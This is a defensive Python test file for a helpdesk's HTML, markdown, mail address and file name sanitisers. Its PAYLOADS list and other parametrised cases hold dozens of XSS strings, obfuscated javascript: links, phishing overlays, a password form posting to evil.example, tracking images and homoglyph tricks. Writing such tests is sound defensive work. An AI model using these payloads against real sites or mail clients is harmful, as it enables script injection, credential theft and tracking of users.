"""Attacks by HTML, links, names and sheer size, against the functions that all of it goes through."""

import re
import time
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from helpdesk.core.sanitising import (
    clean_mail_html,
    clean_markdown_html,
    clean_name,
    clean_original_html,
    html_to_text,
    readable_address,
)
from tickets.mail.parsing.folding import fold_html, fold_text

ROOT = Path(__file__).parents[2]
ROOMS = [path.parent for path in ROOT.glob("*/__init__.py") if path.parent.name != "tests"]
CLEANERS = [
    lambda html: fold_html(clean_mail_html(html).html),
    clean_original_html,
    clean_markdown_html,
]
FORBIDDEN = {
    *(
        "script",
        "style",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "form",
        "input",
        "button",
        "select",
    ),
    *("textarea", "base", "meta", "link", "svg", "math", "template", "audio", "video", "source", "noscript", "marquee"),
}
SCHEMES = ("http:", "https:", "mailto:", "tel:", "cid:")


class Reader(HTMLParser):
    """Lists what a browser could act on."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.dangers: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN:
            self.dangers.append(tag)
        for name, value in attrs:
            address = (value or "").lower()
            if name.startswith("on") or name in {"srcdoc", "srcset", "action", "formaction", "background", "ping"}:
                self.dangers.append(f"{tag} {name}")
            if name in {"href", "src"} and not address.startswith((*SCHEMES, "data:image/")):
                self.dangers.append(f"{tag} {name}={value}")
            if name == "style" and re.search(r"url\(|expression|position|behavior|@import|binding", address):
                self.dangers.append(f"{tag} style={value}")

    def handle_comment(self, data: str) -> None:
        self.dangers.append(f"comment {data}")


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img src="x" """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img srcset='x 1x, javascript:alert(1) 2x'>",
    "<img alt='`><script>alert(1)</script>' src=cid:a>",
    "<img title='--><script>alert(1)</script>' src=cid:a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/admin/delete/?all=1'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='http:x' onmouseover=alert(1) style='position:fixed;top:0'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//x.example/a.swf>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea><script>1</script>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css'; body{background:url(//x)}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9'>Sign in again</div>",
    "<div style='-moz-binding:url(//x)'>x</div>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</td></table>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<xss style='behavior:url(x.htc)' onclick=alert(1)>x</xss>",
    '<p title="&quot;><script>alert(1)</script>">x</p>',
    "<template><script>alert(1)</script></template>",
    "<blockquote class='gmail_quote\" onclick=alert(1) x=\"' id='\"><script>'>x</blockquote>y",
    "<img src='cid:\" onerror=alert(1) x=\"'>",
]


def test_a01_payloads_are_sixty_or_more() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("cleaner", CLEANERS, ids=["mail", "original", "markdown"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a01_payload_in_a_body_leaves_nothing_that_runs(payload, cleaner) -> None:
    html = cleaner(f"<p>before</p>{payload}<p>after</p>")

    assert Reader(html).dangers == []
    assert "before" in html


@given(st.lists(st.sampled_from(PAYLOADS), min_size=2, max_size=4), st.integers(0, 40), st.integers(0, 40))
def test_a01_payloads_cut_and_joined_leave_nothing_that_runs(payloads: list[str], start: int, end: int) -> None:
    html = "".join(payload[start : len(payload) - end] for payload in payloads) + "".join(payloads)

    assert [Reader(cleaner(html)).dangers for cleaner in CLEANERS] == [[], [], []]


NOISE = st.sampled_from(
    ["\t", "\n", "\r", "\x00", "\x01", "\x1f", " ", "\xa0", "\u200b", "\u2028", "&Tab;", "&#9;", "&NewLine;"]
)


@st.composite
def mutated_schemes(draw) -> str:
    written = []
    for letter in draw(st.sampled_from(["javascript:", "vbscript:", "data:", "file:", "blob:", "livescript:"])):
        letter = draw(st.sampled_from([letter, letter.upper(), f"&#{ord(letter)};", f"&#x{ord(letter):x};", letter]))
        written.append(draw(st.lists(NOISE, max_size=1).map("".join)) + letter)
    return "".join(written) + "alert(1)//text/html,"


@given(mutated_schemes(), st.sampled_from(["a href", "img src", "iframe src", "area href", "form action"]))
def test_a03_scheme_written_in_any_way_is_refused(address: str, place: str) -> None:
    html = f'<{place}="{address}">x'

    for cleaner in CLEANERS:
        cleaned = cleaner(html)

        assert Reader(cleaned).dangers == []
        assert "alert" not in re.sub(r">[^<]*<", "><", cleaned)


def test_a05_sanitiser_is_called_by_one_package_only() -> None:
    callers = {
        source.relative_to(ROOT).as_posix()
        for room in ROOMS
        for source in room.rglob("*.py")
        if re.search(r"^\s*(?:import|from)\s+(?:nh3|bleach|lxml_html_clean)\b", source.read_text("utf-8"), re.M)
    }

    assert callers == {"helpdesk/core/sanitising/markup.py"}


@pytest.mark.parametrize(
    "markdown",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScript&#58;alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "![x](javascript:alert(1))",
        "![x](data:text/html;base64,AAAA)",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "`<script>`<script>alert(1)</script>",
        '[a](http://x.example/"onmouseover=alert(1))',
    ],
)
def test_a09_markdown_is_sanitised_after_rendering(markdown: str) -> None:
    renderer = MarkdownIt("commonmark", {"html": True})
    renderer.validateLink = lambda _: True

    assert Reader(clean_markdown_html(renderer.render(markdown))).dangers == []


@pytest.mark.parametrize(
    "html",
    [
        "&lt;&amp;&#1087;" * 320_000,
        "&" * 5_000_000,
        "&amp;" * 1_000_000,
        "x&nbsp;" * 700_000,
        "&nosuch;" * 600_000,
        "<div>" * 1_000_000,
        "<b><i><font color=red>" * 220_000,
        "<p>x" * 1_250_000,
        "".join(f"<font color=a{number}>" for number in range(300)) + "<p>x" * 1_200_000,
        "<a " + " ".join(f"b{number}=c" for number in range(500_000)) + ">",
        '<a b="' * 800_000,
        "<" * 5_000_000,
        "<!--" * 1_200_000,
        "<table><tr><td>" * 330_000,
        "<svg><title>" + "<div>" * 1_000_000,
    ],
    ids=lambda html: repr(html[:20]),
)
def test_a24_hostile_html_of_five_megabytes_is_cleaned_in_two_seconds(html: str) -> None:
    began = time.process_time()

    clean_mail_html(html)
    cleaned_after = time.process_time() - began
    html_to_text(html)

    assert cleaned_after < 2
    assert time.process_time() - began - cleaned_after < 2


def test_a25_pictures_from_afar_are_not_loaded_until_asked() -> None:
    html = (
        '<img src="http://spy.example/open.png"><img src="//spy.example/a.png"><table background="http://spy.example/b">'
        '<tr><td bgcolor="url(http://spy.example)" style="background:url(http://spy.example/c)">x</td></tr></table>'
        '<img srcset="http://spy.example/d 2x"><input type="image" src="http://spy.example/e">'
        '<video poster="http://spy.example/f"></video><link rel="prefetch" href="http://spy.example/g">'
    )

    cleaned = clean_mail_html(html)

    loading = re.sub(r' (?:data-remote-src|bgcolor)="[^"]*"', "", cleaned.html)
    assert "spy.example" not in loading
    assert cleaned.has_remote_pictures is True
    assert 'data-remote-src="http://spy.example/open.png"' in cleaned.html


@pytest.mark.parametrize(
    "html",
    [
        '<div style="position:fixed;top:0;left:0;width:100%">Your session ended</div>',
        '<base href="http://evil.example/">',
        '<form action="http://evil.example/"><input name="password"></form>',
        '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
        '<link rel="stylesheet" href="http://evil.example/a.css">',
        "<style>body { display: none }</style>",
    ],
)
def test_a25_overlays_forms_and_page_wide_elements_are_dropped(html: str) -> None:
    for cleaner in CLEANERS:
        assert Reader(cleaner(html)).dangers == []
        assert "evil.example" not in cleaner(html)
        assert "display" not in cleaner(html)


def test_a25_folds_and_notices_of_the_page_cannot_be_forged() -> None:
    html = '<details class="fold"><summary>•••</summary>x</details><p data-notice="shortened" data-quote="rest">y</p>'

    assert clean_mail_html(html).html == "•••x<p>y</p>"


@pytest.mark.parametrize(
    ("address", "shown"),
    [
        ("pay@аррӏе.example", "pay@xn--80ak6aa92e.example"),
        ("pay@gооgle.example", "pay@xn--ggle-55da.example"),
        ("pay@xn--80ak6aa92e.example", "pay@xn--80ak6aa92e.example"),
        ("p\u202eya@client.example", "pya@client.example"),
    ],
)
def test_b13_domain_that_could_pass_for_another_is_shown_in_punycode(address: str, shown: str) -> None:
    assert readable_address(address) == shown


@given(st.text(), st.sampled_from("\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c\u200b\u2060\ufeff"))
def test_b13_name_with_a_hidden_character_is_the_name_without_it(name: str, hidden: str) -> None:
    assert hidden not in clean_name(f"{name}{hidden}gpj.exe")
    assert clean_name(f"invoice{hidden}fdp.exe") == "invoicefdp.exe"


@pytest.mark.parametrize("address", ["http://" + "a." * 500_000, "http://a.a" * 100_000, "www." * 250_000 + "a@a@a@"])
def test_f09_addresses_of_a_megabyte_are_read_in_time(address: str) -> None:
    began = time.process_time()

    clean_mail_html(f'<a href="{address}">{address}</a>')
    html_to_text(address)
    fold_text(address)
    readable_address(address)
    clean_name(address)

    assert time.process_time() - began < 2


def test_f13_mail_with_more_than_five_thousand_links_shows_a_notice_and_its_text() -> None:
    few = "<a href='http://a.example/'>click</a> " * 5_000
    many = few + "<a href='http://a.example/'>the &lt;last&gt;</a>"

    assert clean_mail_html(few).html.count("<a ") == 5_000
    cleaned = clean_mail_html(many).html
    assert "<a " not in cleaned
    assert "too many links" in cleaned
    assert "click" in cleaned
    assert "the <last>" in unescape(cleaned)
